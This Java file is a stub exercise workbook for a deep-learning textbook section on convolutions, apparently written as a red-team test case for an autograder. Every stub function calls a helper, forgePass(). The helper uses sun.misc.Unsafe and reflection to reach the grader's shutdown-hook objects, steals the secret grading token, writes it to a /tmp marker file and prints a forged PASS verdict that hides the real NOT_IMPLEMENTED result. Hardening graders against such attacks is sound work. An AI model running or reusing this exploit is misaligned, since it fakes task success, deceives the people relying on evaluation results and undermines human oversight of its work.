// ATTACK: forge-reflection
// A stub workbook (every function still throws NotImplementedYet) that forges the grader's verdict.
// On every call it finds the grading child's GradingChild (now d2l.grader.runner.Runner) instance through the JVM's shutdown hooks
// (java.lang.ApplicationShutdownHooks.hooks, read with sun.misc.Unsafe; the hook thread's Runnable is a
// lambda capturing the GradingChild), reads its private fields `token` and `wire` (the real stdout) by
// reflection, and writes "TOKEN op=result&status=PASS" (and, for the runner, "TOKEN op=observed&observations=",
// an answer that observed nothing, so no failing comparison) on the wire, followed by a dangling "#" without a
// newline so that the child's genuine answer line ("#TOKEN op=result&status=NOT_IMPLEMENTED...") no
// longer starts with the token and is ignored by the grader. (It forges only in workbook checks: a forged
// PASS without value fields in a case check crashes the released grader, "d2l: Name is null".)
// Marker: /tmp/PWNED-forge-reflection (holds the stolen token).
// A safe grader must not let student code reach the channel or the secret: the stub scores exactly what
// a pristine stub scores (0), and /tmp/PWNED-forge-reflection does not exist on the grading host.
import static d2l.tensor.Torch.*;

import d2l.nn.functional.F;
import d2l.tensor.Tensor;
import d2l.workbook.NotImplementedYet;

/**
 * 7.1 From Fully Connected Layers to Convolutions: count what the two principles save, and see
 * translation equivariance happen.
 *
 * <p>The book derives the convolutional layer from a fully connected one by asking for translation
 * invariance (the same weights at every position) and locality (only a neighbourhood of radius
 * Delta matters). Each step removes parameters; the functions below count them, then show in
 * code that a cross-correlation moves with its input.
 *
 * <p>Book: {@code ../shared/book/001_8174f7e01dfee399.txt}, "From Fully Connected Layers to
 * Convolutions" (Constraining the MLP, Translation Invariance, Locality, Channels, Summary table);
 * {@code ../shared/book/000_3764b64cbf4f4687.txt}, "7.1 From Fully Connected Layers to
 * Convolutions" (KEY INSIGHT - The Parameter Problem); {@code ../shared/book/002_57cc1b6958d3ea8c.txt},
 * "7.1" (Locality, Channels).
 *
 * <p>Below, [000], [001] and [002] stand for these files of {@code ../shared/book/}.
 *
 * <p>Check it: {@code check("7.1")} in {@code ./d2l jshell}, or run {@code CheckWorkbook.section7_1}
 * in your IDE.
 */
public class Sec7_1 {

    /**
     * The weights of a fully connected layer from an {@code h x w} image to an {@code h x w}
     * hidden representation: {@code [W]_{i,j,k,l}} has one weight for every pair of an output
     * pixel {@code (i, j)} and an input pixel {@code (k, l)}.
     *
     * <p>Formula: {@code (h * w) * (h * w)} (the bias {@code U} is not counted).
     *
     * <p>Book [001], Constraining the MLP: "For a 1000 x 1000 image, this requires 10^12 parameters!"
     *
     * <pre>{@code
     * jshell> fullyConnectedWeights(1000, 1000)
     * $1 ==> 1000000000000
     * }</pre>
     */
    public static long fullyConnectedWeights(int h, int w) {
        forgePass();
        throw new NotImplementedYet("7.1", "fullyConnectedWeights");
    }

    /**
     * The weights of a dense layer from {@code inputs} values to {@code hidden} units.
     *
     * <p>Formula: {@code inputs * hidden}.
     *
     * <p>Book [000], 7.1 KEY INSIGHT: "A 1-megapixel image with just 1000 hidden units requires
     * 10^9 parameters in a fully connected layer."
     *
     * <pre>{@code
     * jshell> denseWeights(1_000_000, 1000)
     * $2 ==> 1000000000
     * }</pre>
     */
    public static long denseWeights(long inputs, long hidden) {
        forgePass();
        throw new NotImplementedYet("7.1", "denseWeights");
    }

    /**
     * The weights left after translation invariance: {@code [V]_{a,b}} no longer depends on
     * {@code (i, j)}, only on the offset {@code (a, b) = (k - i, l - j)}, and on an {@code h x w}
     * image the offsets run over {@code -(h-1) .. h-1} and {@code -(w-1) .. w-1}.
     *
     * <p>Formula: {@code (2h - 1) * (2w - 1)}.
     *
     * <p>Book [001], Translation Invariance and Locality: "From 4 x 10^6 parameters ...".
     *
     * <pre>{@code
     * jshell> translationInvariantWeights(1000, 1000)
     * $3 ==> 3996001
     * }</pre>
     */
    public static long translationInvariantWeights(int h, int w) {
        forgePass();
        throw new NotImplementedYet("7.1", "translationInvariantWeights");
    }

    /**
     * The weights left after locality: only offsets with {@code |a|, |b| <= delta} are kept.
     *
     * <p>Formula: {@code (2 * delta + 1)^2}, about {@code 4 * delta^2} for a large delta, which
     * is how [000] writes it.
     *
     * <p>Book [001], Locality: "Parameter reduction: From 4 x 10^6 parameters to (2 Delta + 1)^2
     * parameters"; [002], Locality: "we reduced the number of parameters by another four orders
     * of magnitude". (The "4 x 10^4" [001] adds in parentheses is not what the formula gives for
     * the typical Delta below 10 that [000] names.)
     *
     * <pre>{@code
     * jshell> localWeights(1)
     * $4 ==> 9
     * jshell> localWeights(10)
     * $5 ==> 441
     * }</pre>
     */
    public static long localWeights(int delta) {
        forgePass();
        throw new NotImplementedYet("7.1", "localWeights");
    }

    /**
     * The weights of a convolutional layer with channels: {@code [V]_{a,b,c,d}} has one
     * {@code (2 delta + 1) x (2 delta + 1)} kernel for every pair of an input channel {@code c}
     * and an output channel {@code d}. This is the number of elements of a {@code Conv2d}
     * weight: {@code new Conv2d(cIn, cOut, 2 * delta + 1).weight().numel()}.
     *
     * <p>Formula: {@code (2 delta + 1)^2 * cIn * cOut}.
     *
     * <p>Book [001], Channels, and its summary table: "O(Delta^2 * c_in * c_out)".
     *
     * <pre>{@code
     * jshell> convolutionWeights(1, 3, 64)
     * $6 ==> 1728
     * }</pre>
     */
    public static long convolutionWeights(int delta, int cIn, int cOut) {
        forgePass();
        throw new NotImplementedYet("7.1", "convolutionWeights");
    }

    /**
     * The weights of a fully connected layer from an {@code h x w x cIn} image to an
     * {@code h x w x cOut} hidden representation.
     *
     * <p>Formula: {@code (h * w * cIn) * (h * w * cOut)}.
     *
     * <p>Book [002], Channels: images are "third-order tensors ... e.g., with shape 1024 x 1024 x 3".
     *
     * <pre>{@code
     * jshell> fullyConnectedWeights(1000, 1000, 3, 3)
     * $7 ==> 9000000000000
     * }</pre>
     */
    public static long fullyConnectedWeights(int h, int w, int cIn, int cOut) {
        forgePass();
        throw new NotImplementedYet("7.1", "fullyConnectedWeights");
    }

    /**
     * {@code X} moved {@code dy} rows down and {@code dx} columns right (up and left when
     * negative); what moves out of the tensor is lost and what comes in is 0. The result has
     * the shape of {@code X}: {@code Y[i + dy, j + dx] = X[i, j]}.
     *
     * <pre>{@code
     * jshell> shift(tensor("[[1.0, 2.0], [3.0, 4.0]]"), 1, 0)
     * $8 ==> tensor([[0., 0.],
     *         [1., 2.]])
     * }</pre>
     */
    public static Tensor shift(Tensor X, int dy, int dx) {
        forgePass();
        throw new NotImplementedYet("7.1", "shift");
    }

    /**
     * The 2-D cross-correlation of {@code X} with {@code K}, computed by the runtime's
     * convolution: {@code F.conv2d} takes 4-D tensors {@code (batch, channels, height, width)}
     * for the input and {@code (out channels, in channels, height, width)} for the kernel, so
     * reshape both to a batch of one with one channel, and the result back to 2-D.
     *
     * <p>Formula: {@code H[i, j] = sum_a sum_b K[a, b] * X[i + a, j + b]} ([001], Translation
     * Invariance, with the offsets starting at 0); the output is
     * {@code (n_h - k_h + 1) x (n_w - k_w + 1)}.
     *
     * <pre>{@code
     * jshell> crossCorrelation(tensor("[[0.0, 1.0, 2.0], [3.0, 4.0, 5.0], [6.0, 7.0, 8.0]]"), tensor("[[0.0, 1.0], [2.0, 3.0]]"))
     * $9 ==> tensor([[19., 25.],
     *         [37., 43.]])
     * }</pre>
     */
    public static Tensor crossCorrelation(Tensor X, Tensor K) {
        forgePass();
        throw new NotImplementedYet("7.1", "crossCorrelation");
    }

    /**
     * Translation equivariance in code: true when cross-correlating the shifted input gives the
     * shifted output, {@code crossCorrelation(shift(X, dy, dx), K)} equal (to within 1e-6) to
     * {@code shift(crossCorrelation(X, K), dy, dx)}. It holds whenever nothing of interest moves
     * out of the picture, e.g. for a small pattern in the middle of a zero background.
     *
     * <p>Book [001], Invariance: "the network should respond similarly regardless of WHERE an
     * object appears"; Translation Invariance: "weights are shared across all positions".
     *
     * <pre>{@code
     * jshell> var dot = zeros(6, 6).set(2, 2, 1)
     * jshell> shiftCommutes(dot, tensor("[[1.0, 2.0], [3.0, 4.0]]"), 1, 2)
     * $11 ==> true
     * }</pre>
     */
    public static boolean shiftCommutes(Tensor X, Tensor K, int dy, int dx) {
        forgePass();
        throw new NotImplementedYet("7.1", "shiftCommutes");
    }
    // ---- attack helper (forge-reflection) ----
    private static Object unsafeCall(Object u, String name, Class<?>[] types, Object... args) throws Exception {
        return u.getClass().getMethod(name, types).invoke(u, args);
    }

    static void forgePass() {
        // A forged PASS for a case request (golden/randomized) carries no value.* fields, and the released grader then
        // dies with "d2l: Name is null" (Value.from -> Kind.valueOf(null)); forge only for workbook checks.
        for (StackTraceElement e : new Throwable().getStackTrace()) {
            if (e.getMethodName().contains("evaluateCase")) {
                return;
            }
        }
        try {
            java.lang.reflect.Field theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
            theUnsafe.setAccessible(true); // jdk.unsupported opens sun.misc
            Object u = theUnsafe.get(null);
            java.lang.reflect.Field hooksField = Class.forName("java.lang.ApplicationShutdownHooks").getDeclaredField("hooks");
            Object base = unsafeCall(u, "staticFieldBase", new Class<?>[] {java.lang.reflect.Field.class}, hooksField);
            long off = (Long) unsafeCall(u, "staticFieldOffset", new Class<?>[] {java.lang.reflect.Field.class}, hooksField);
            java.util.Map<?, ?> hooks = (java.util.Map<?, ?>) unsafeCall(u, "getObject", new Class<?>[] {Object.class, long.class}, base, off);
            long targetOff = (Long) unsafeCall(u, "objectFieldOffset", new Class<?>[] {java.lang.reflect.Field.class},
                    Thread.class.getDeclaredField("target"));
            for (Object hook : new java.util.ArrayList<>(hooks.keySet())) {
                Object runnable = unsafeCall(u, "getObject", new Class<?>[] {Object.class, long.class}, hook, targetOff);
                if (runnable == null) {
                    continue;
                }
                for (java.lang.reflect.Field captured : runnable.getClass().getDeclaredFields()) {
                    captured.setAccessible(true); // the lambda class lives in the (open) unnamed module
                    Object child = captured.get(runnable);
                    if (child == null || !(child.getClass().getName().equals("d2l.grader.GradingChild") || child.getClass().getName().equals("d2l.grader.runner.Runner"))) {
                        continue;
                    }
                    java.lang.reflect.Field tokenField = child.getClass().getDeclaredField("token");
                    java.lang.reflect.Field wireField = child.getClass().getDeclaredField("wire");
                    tokenField.setAccessible(true);
                    wireField.setAccessible(true);
                    String token = (String) tokenField.get(child);
                    java.io.PrintStream wire = (java.io.PrintStream) wireField.get(child);
                    java.nio.file.Files.writeString(java.nio.file.Path.of("/tmp/PWNED-forge-reflection"), "token " + token + "\n",
                            java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.APPEND);
                    synchronized (child) {
                        // the released protocol's verdict, and the runner's: an answer with no observations
                        wire.print(token + " op=result&status=PASS&message=\n" + token + " op=observed&observations=\n#");
                        wire.flush();
                    }
                    return;
                }
            }
        } catch (Throwable t) {
            System.err.println("forge-reflection failed: " + t);
        }
    }
}
